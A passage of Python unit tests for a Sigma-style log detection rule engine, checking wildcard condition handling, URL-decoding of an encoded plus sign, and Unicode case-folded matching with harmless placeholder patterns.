        "detection:\n  sel: {message|contains: abc}\n  _aside: {message|contains: zzzzzzzz}\n"
        "  condition: all of *\n")
    rs = load_rules([tmp_path])
    (rule,) = rs.rules
    e = event_dict(Event(ts=0, raw="x abc", app="sshd", message="x abc"))
    assert rule.match(RuleEvent(e))  # `all of *` leaves `_aside` out
    rev = RuleEvent(e)
    assert rule in Engine(rs).route(rev).candidates(rev)


def test_an_encoded_plus_in_the_query_decodes_to_a_plus() -> None:
    e = access("/calc?q=1%2B1")
    assert matches({"cs-uri-query|contains": "q=1+1"}, e)


def test_case_insensitive_matching_folds_unicode_case(tmp_path: Path) -> None:
    """Greek final sigma, German sharp s: casefold on both sides, and the
    prefilter agrees with the compiled rule."""
    from soc_tui.detect.engine import Engine

    (tmp_path / "r.yml").write_text(
        "title: fold\nlogsource: {product: linux}\nlevel: low\n"
        "detection:\n  a: {message|contains: 'ΟΣ'}\n  b: {message|contains|cased: 'ΟΣ'}\n"
        "  c: {message|contains: 'STRASSE'}\n  condition: a and b and c\n")
    rs = load_rules([tmp_path])
    (rule,) = rs.rules
    e = event_dict(Event(ts=0, raw="xΟΣΑ straße", app="sshd", message="xΟΣΑ straße"))
    assert rule.match(RuleEvent(e))
    rev = RuleEvent(e)
    assert rule in Engine(rs).route(rev).candidates(rev)
